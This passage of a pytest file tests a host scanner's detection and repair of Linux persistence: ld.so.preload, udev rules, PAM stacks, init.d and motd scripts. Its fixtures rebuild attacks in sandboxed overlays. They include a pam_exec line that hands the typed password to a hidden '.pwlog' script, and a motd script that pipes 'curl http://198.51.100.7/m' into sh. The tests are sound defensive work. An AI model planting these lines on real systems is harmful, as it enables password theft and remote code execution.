            assert step.reversible and step.undo is not None, step
            subprocess.run(_in_tree(step.undo, tree), check=True, timeout=10)
    again = _found(tree, check)
    assert sorted(again) == sorted(before)
    assert {p: (tree / p.lstrip("/")).stat().st_mode & 0o7777 for p in before} == modes
    assert again["/var/tmp/.x/pinger"].evidence["capabilities"] == before["/var/tmp/.x/pinger"].evidence["capabilities"]


# -- 6. ld.so.preload, udev, pam_exec --------------------------------------------------------------------

# An overlay over /etc in a private mount namespace: files copied into /etc land in a tmpfs, the real /etc
# stays as it is, and everything ends with the command. "$M" is an empty directory of the test's.
ETC_OVERLAY = ('mount -t tmpfs tmpfs "$M" && mkdir "$M/u" "$M/w" && '
               'mount -t overlay overlay -o lowerdir=/etc,upperdir="$M/u",workdir="$M/w" /etc')


def _with_etc(tmp_path: Path, script: str, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    need_root("a private mount namespace with an overlay over /etc")
    need_tool("unshare")
    mnt = tmp_path / "mnt"
    mnt.mkdir(exist_ok=True)
    return subprocess.run(["unshare", "--mount", "--propagation", "private", "sh", "-c",
                           f"{ETC_OVERLAY} && {script}", "sh", *args], input=stdin, capture_output=True, text=True,
                          env={**os.environ, "M": str(mnt)}, timeout=60, check=False)


def test_ld_preload_fix_leaves_a_file_the_loader_reads_without_complaint(tmp_path: Path) -> None:
    tree = build_tree(tmp_path / "host", HITS / "persistence.ld_preload")
    preload = tree / "etc/ld.so.preload"
    run = 'cp "$1" /etc/ld.so.preload && exec /bin/true'
    hit = _with_etc(tmp_path, run, str(preload))
    # the loader reads the hit and names the library it was told to preload (absent here)
    assert hit.returncode == 0 and "libprocesshider.so' from /etc/ld.so.preload" in hit.stderr, hit.stderr
    [finding] = _found(tree, "persistence.ld_preload").values()

    apply(finding.remediation.steps, str(tree))

    fixed = _with_etc(tmp_path, run, str(preload))
    assert (fixed.returncode, fixed.stderr) == (0, "")
    assert preload.read_text() == ""
    assert _found(tree, "persistence.ld_preload") == {}
    real = Path("/etc/ld.so.preload")  # this machine's own: untouched by the overlay
    assert not real.exists() or "libprocesshider" not in real.read_text()


def test_udev_fix_removes_the_run_line_rescan_only(tmp_path: Path) -> None:
    """``udevadm verify`` (systemd 253+) would read the rule file; Debian 12 has systemd 252, whose udevadm
    has no offline check, so this is the re-scan and the file's remaining text."""
    tree = build_tree(tmp_path / "host", HITS / "persistence.udev_run")
    [finding] = _found(tree, "persistence.udev_run").values()
    apply(finding.remediation.steps, str(tree))
    assert (tree / "etc/udev/rules.d/99-net.rules").read_text() == ""
    assert _found(tree, "persistence.udev_run") == {}


PAM_SCRIPT = (
    'cp "$1/etc/pam.d/sudo" /etc/pam.d/sudo && cp "$1/etc/pam.d/common-auth" /etc/pam.d/common-auth && '
    'cp "$1/etc/passwd" /etc/passwd && cp "$1/etc/shadow" /etc/shadow && '
    # the attacker's program, at the path the line names: it writes what pam_exec hands it to the marker
    'mount -t tmpfs tmpfs /usr/local/sbin && printf "#!/bin/sh\\ncat > %s\\n" "$2" > /usr/local/sbin/.pwlog && '
    'chmod 755 /usr/local/sbin/.pwlog && exec pamtester sudo alice authenticate')
PASSWORD = "Owner-logs-in-1"


def _pamtester(tmp_path: Path, tree: Path, password: str) -> tuple[int, str | None]:
    """Authenticate alice with ``password`` through the tree's sudo stack (real Linux-PAM, pamtester); what
    the pam_exec program was handed (None: it did not run)."""
    need_tool("pamtester")
    marker = tmp_path / "marker"
    marker.unlink(missing_ok=True)
    done = _with_etc(tmp_path, PAM_SCRIPT, str(tree), str(marker), stdin=password + "\n")
    assert "successfully authenticated" in done.stdout + done.stderr or done.returncode != 0
    return done.returncode, marker.read_text().rstrip("\0\n") if marker.exists() else None


def _pam_tree(tmp_path: Path, name: str = "host") -> Path:
    tree = build_tree(tmp_path / name, HITS / "persistence.pam_exec")
    hashed = subprocess.run(["openssl", "passwd", "-6", "-salt", "hostguardtest", PASSWORD], capture_output=True,
                            text=True, timeout=10, check=True).stdout.strip()
    shadow = tree / "etc/shadow"
    shadow.write_text("".join(f"alice:{hashed}:20000:0:99999:7:::\n" if x.startswith("alice:") else x + "\n"
                              for x in shadow.read_text().splitlines()))
    return tree


def test_pam_exec_fix_keeps_the_owner_logging_in_and_the_password_from_the_program(tmp_path: Path) -> None:
    need_tool("openssl")
    tree = _pam_tree(tmp_path)
    assert _pamtester(tmp_path, tree, PASSWORD) == (0, PASSWORD)  # before: the program gets the password
    [finding] = _found(tree, "persistence.pam_exec").values()

    apply(finding.remediation.steps, str(tree))

    assert _pamtester(tmp_path, tree, PASSWORD) == (0, None)  # the owner still logs in; nothing is handed over
    assert _pamtester(tmp_path, tree, "wrong-password")[0] != 0  # and the stack still says no
    assert _found(tree, "persistence.pam_exec") == {}
    assert "hostguardtest" not in Path("/etc/shadow").read_text()  # this machine's own shadow was never touched


def test_pam_exec_fix_leaves_a_well_formed_stack(tmp_path: Path) -> None:
    """The stack after the delete, as the project's PAM parser reads it: the includes still resolve, every
    line has a control PAM knows, and every jump (``success=N``) still lands inside the stack."""
    tree = build_tree(tmp_path / "host", HITS / "persistence.pam_exec")
    [finding] = _found(tree, "persistence.pam_exec").values()
    apply(finding.remediation.steps, str(tree))
    lines = parse_pam_stack(RootHost(str(tree)), "/etc/pam.d/sudo", kind="auth")
    assert [(x.path, x.module) for x in lines] == [("/etc/pam.d/common-auth", "pam_unix.so"),
                                                   ("/etc/pam.d/common-auth", "pam_deny.so"),
                                                   ("/etc/pam.d/common-auth", "pam_permit.so")]
    simple = {"required", "requisite", "sufficient", "optional"}
    for n, line in enumerate(lines):
        if line.control in simple:
            continue
        assert line.control.startswith("[") and line.control.endswith("]"), line
        for pair in line.control[1:-1].split():
            _, _, action = pair.partition("=")
            if action.isdigit():
                assert n + int(action) < len(lines), line
            else:
                assert action in ("ignore", "bad", "die", "ok", "done", "reset"), line


# A pam_exec line an earlier jump skips. On a wrong password pam_unix falls through to the attacker's line (it
# gets what was typed) and to pam_deny; on the right one `success=2` skips both and lands on the second factor
# (a pam_exec stand-in of the test's own that leaves a mark), then pam_permit.
JUMP_STACK = ("#%PAM-1.0\n"
              "auth [success=2 default=ignore] pam_unix.so\n"
              "auth optional pam_exec.so quiet expose_authtok /usr/local/sbin/.pwlog\n"
              "auth requisite pam_deny.so\n"
              "auth required pam_exec.so quiet /usr/local/sbin/otp-check\n"
              "auth required pam_permit.so\n")
PAM_2FA_SCRIPT = (
    'cp "$1/etc/pam.d/sudo" /etc/pam.d/sudo && cp "$1/etc/passwd" /etc/passwd && cp "$1/etc/shadow" /etc/shadow && '
    'mount -t tmpfs tmpfs /usr/local/sbin && printf "#!/bin/sh\\ncat > %s\\n" "$2" > /usr/local/sbin/.pwlog && '
    'printf "#!/bin/sh\\ntouch %s\\n" "$3" > /usr/local/sbin/otp-check && '
    'chmod 755 /usr/local/sbin/.pwlog /usr/local/sbin/otp-check && exec pamtester sudo alice authenticate')


def _pamtester_2fa(tmp_path: Path, tree: Path, password: str) -> tuple[int, str | None, bool]:
    """Authenticate alice through the tree's sudo stack: the exit code, what the attacker's program was handed
    (None: it did not run), and whether the second factor ran."""
    need_tool("pamtester")
    marker, otp = tmp_path / "marker", tmp_path / "otp"
    marker.unlink(missing_ok=True)
    otp.unlink(missing_ok=True)
    done = _with_etc(tmp_path, PAM_2FA_SCRIPT, str(tree), str(marker), str(otp), stdin=password + "\n")
    assert "successfully authenticated" in done.stdout + done.stderr or done.returncode != 0
    return done.returncode, marker.read_text().rstrip("\0\n") if marker.exists() else None, otp.exists()


def _jump_tree(tmp_path: Path, name: str = "host") -> Path:
    tree = _pam_tree(tmp_path, name)
    _write(tree, "etc/pam.d/sudo", JUMP_STACK)
    _write(tree, "usr/local/sbin/otp-check", "#!/bin/sh\n", 0o755)  # the second factor is a package's
    _write(tree, "var/lib/dpkg/info/otp-check.list", "/.\n/usr/local/sbin/otp-check\n")
    return tree


def test_pam_exec_fix_shortens_the_jump_over_it_and_the_second_factor_still_runs(tmp_path: Path) -> None:
    need_tool("openssl")
    tree = _jump_tree(tmp_path)
    assert _pamtester_2fa(tmp_path, tree, PASSWORD) == (0, None, True)
    wrong = _pamtester_2fa(tmp_path, tree, "wrong-password")
    assert wrong[0] != 0 and wrong[1:] == ("wrong-password", False)  # before: the program gets what is typed
    [finding] = _found(tree, "persistence.pam_exec").values()
    assert finding.evidence["jumps_over"] == [{"file": "/etc/pam.d/sudo", "line": 2, "services": ["sudo"],
                                               "text": "auth [success=2 default=ignore] pam_unix.so",
                                               "jumps": ["success=2"]}]
    # bottom-up: the delete (line 3) before the edit above it, each with its exact old text
    assert finding.remediation.steps == (
        DeleteLine("/etc/pam.d/sudo", 3, "auth optional pam_exec.so quiet expose_authtok /usr/local/sbin/.pwlog"),
        Edit("/etc/pam.d/sudo", 2, "auth [success=2 default=ignore] pam_unix.so",
             "auth [success=1 default=ignore] pam_unix.so"))
    for step in finding.remediation.steps:  # one at a time, in their order: each line number still true
        apply((step,), str(tree))

    assert _pamtester_2fa(tmp_path, tree, PASSWORD) == (0, None, True)  # the owner logs in, past the 2nd factor
    code, handed, second = _pamtester_2fa(tmp_path, tree, "wrong-password")
    assert code != 0 and (handed, second) == (None, False)  # the stack still says no, and hands nothing over
    assert _found(tree, "persistence.pam_exec") == {}
    lines = parse_pam_stack(RootHost(str(tree)), "/etc/pam.d/sudo", kind="auth")
    assert [(x.module, x.control) for x in lines] == [
        ("pam_unix.so", "[success=1 default=ignore]"), ("pam_deny.so", "requisite"),
        ("pam_exec.so", "required"), ("pam_permit.so", "required")]


def test_deleting_a_skipped_pam_exec_line_alone_skips_the_second_factor(tmp_path: Path) -> None:
    """What the edit of the jump is for: the line deleted alone, `success=2` now skips pam_deny *and* the
    second factor; the logon still succeeds, without it."""
    need_tool("openssl")
    tree = _jump_tree(tmp_path)
    [finding] = _found(tree, "persistence.pam_exec").values()
    apply([s for s in finding.remediation.steps if isinstance(s, DeleteLine)], str(tree))
    assert _pamtester_2fa(tmp_path, tree, PASSWORD) == (0, None, False)


def _pam_fix_of(tmp_path: Path, files: dict[str, str]) -> Finding:
    tree = build_tree(tmp_path / "host")
    for name, text in files.items():
        _write(tree, f"etc/pam.d/{name}", text)
    [finding] = _found(tree, "persistence.pam_exec").values()
    return finding


EXEC = "optional pam_exec.so quiet expose_authtok /usr/local/sbin/.pwlog"


def test_pam_exec_fix_shapes_around_jumps(tmp_path: Path) -> None:
    # near miss: the hit's stack has no jump over its line (`default=ignore` jumps nowhere): the simple delete
    [hit] = _found(build_tree(tmp_path / "hit", HITS / "persistence.pam_exec"), "persistence.pam_exec").values()
    assert hit.remediation.steps == (DeleteLine("/etc/pam.d/sudo", 2, "auth [default=ignore] pam_exec.so quiet "
                                                "expose_authtok /usr/local/sbin/.pwlog"),)
    assert "jumps_over" not in hit.evidence
    # near miss: a jump that lands on the line (1 skips pam_env only) needs no change: the simple delete
    onto = _pam_fix_of(tmp_path / "a", {"sudo": f"auth [success=1 default=ignore] pam_unix.so\nauth optional "
                                                f"pam_env.so\nauth {EXEC}\nauth required pam_permit.so\n"})
    assert onto.remediation.steps == (DeleteLine("/etc/pam.d/sudo", 3, f"auth {EXEC}"),)
    # several values of one control, one of them skipping the line, and a second jump line
    two = _pam_fix_of(tmp_path / "b", {"sudo": "auth [success=3 new_authtok_reqd=1 default=ignore] pam_unix.so\n"
                                               f"auth [default=2] pam_env.so\nauth {EXEC}\nauth requisite pam_deny.so\n"
                                               "auth required pam_permit.so\n"})
    assert two.remediation.steps == (
        DeleteLine("/etc/pam.d/sudo", 3, f"auth {EXEC}"),
        Edit("/etc/pam.d/sudo", 2, "auth [default=2] pam_env.so", "auth [default=1] pam_env.so"),
        Edit("/etc/pam.d/sudo", 1, "auth [success=3 new_authtok_reqd=1 default=ignore] pam_unix.so",
             "auth [success=2 new_authtok_reqd=1 default=ignore] pam_unix.so"))
    # account: a jump of 1 becomes `ignore` (PAM has no jump of 0; pam_acct_mgmt's side effect of a jump is ignore)
    account = _pam_fix_of(tmp_path / "c", {"sudo": f"account [success=1 default=ignore] pam_unix.so\naccount {EXEC}\n"
                                                   "account required pam_permit.so\n"})
    assert account.remediation.steps[1] == Edit("/etc/pam.d/sudo", 1, "account [success=1 default=ignore] pam_unix.so",
                                                "account [success=ignore default=ignore] pam_unix.so")


def test_pam_exec_fixes_left_to_the_owner_name_each_jump(tmp_path: Path) -> None:
    # auth: a jump of 1 on an auth line would become `ignore`, not what pam_setcred does after a jump
    one = _pam_fix_of(tmp_path / "a", {"sudo": f"auth [success=1 default=ignore] pam_unix.so\nauth {EXEC}\n"
                                               "auth required pam_permit.so\n"}).remediation
    assert one.steps == ()
    assert one.manual and "pam_setcred" in one.manual
    assert "line 1 of /etc/pam.d/sudo (`auth [success=1 default=ignore] pam_unix.so`): change `success=1` to " \
           "`success=ignore`" in one.manual
    # the jump is in a shared file that other services read: editing it is the owner's call
    shared = _pam_fix_of(tmp_path / "b", {
        "common-auth": "auth [success=1 default=ignore] pam_unix.so\n",
        "sudo": f"@include common-auth\nauth {EXEC}\nauth requisite pam_deny.so\n"}).remediation
    assert shared.steps == ()
    assert shared.manual and "another file" in shared.manual and "line 1 of /etc/pam.d/common-auth" in shared.manual
    # a substack: PAM counts it as one module, the parser its lines
    sub = _pam_fix_of(tmp_path / "c", {"sudo-x": "auth required pam_env.so\nauth required pam_faildelay.so\n",
                                       "sudo": f"auth [success=2 default=ignore] pam_unix.so\nauth substack sudo-x\n"
                                               f"auth {EXEC}\nauth requisite pam_deny.so\n"}).remediation
    assert sub.steps == ()
    assert sub.manual and "substack" in sub.manual


# -- 7. init.d scripts -------------------------------------------------------------------------------------

def test_init_script_links_are_removed_by_update_rc_d_on_the_tree(tmp_path: Path) -> None:
    """update-rc.d has no --root, but honours DPKG_ROOT (its own root, as dpkg sets it for a chroot from
    outside): it removes the tree's rc?.d links and skips the systemd reload. With insserv installed it
    would hand the removal to insserv, which ignores DPKG_ROOT: then this cannot be run on a tree."""
    need_tool("update-rc.d")
    if any(os.access(p, os.X_OK) for p in ("/usr/lib/insserv/insserv", "/sbin/insserv")):
        pytest.skip(reason="insserv is installed: update-rc.d would act on this machine's /etc")
    tree = build_tree(tmp_path / "host", HITS / "persistence.boot_script")
    for rel, script in (("etc/rc2.d/S01netmon", "netmon"), ("etc/rc3.d/S01netmon", "netmon"),
                        ("etc/rc0.d/K01netmon", "netmon"), ("etc/rc2.d/S01ssh", "ssh")):
        (tree / rel).parent.mkdir(parents=True, exist_ok=True)
        (tree / rel).symlink_to(f"../init.d/{script}")
    finding = _found(tree, "persistence.boot_script")["/etc/init.d/netmon"]
    assert finding.remediation.steps == (Command(("update-rc.d", "-f", "netmon", "remove"), live_only=False),
                                         Action("quarantine", (("path", "/etc/init.d/netmon"),)))

    assert _run_on_tree(finding, tree) == []

    left = sorted(str(p.relative_to(tree)) for p in (tree / "etc").glob("rc?.d/*"))
    assert left == ["etc/rc2.d/S01ssh"]
    # the script itself goes with the quarantine action (hostguard's own, restorable), not here
    assert (tree / "etc/init.d/netmon").exists()


def test_motd_scripts_are_quarantined_whole(tmp_path: Path) -> None:
    """update-motd.d scripts are judged as whole files: no line is deleted, the fix is the quarantine."""
    tree = build_tree(tmp_path / "host")
    _write(tree, "etc/update-motd.d/99-stats", "#!/bin/sh\ncurl -s http://198.51.100.7/m | sh\n", 0o755)
    [finding] = _found(tree, "persistence.login_script").values()
    assert finding.remediation.steps == (Action("quarantine", (("path", "/etc/update-motd.d/99-stats"),)),)
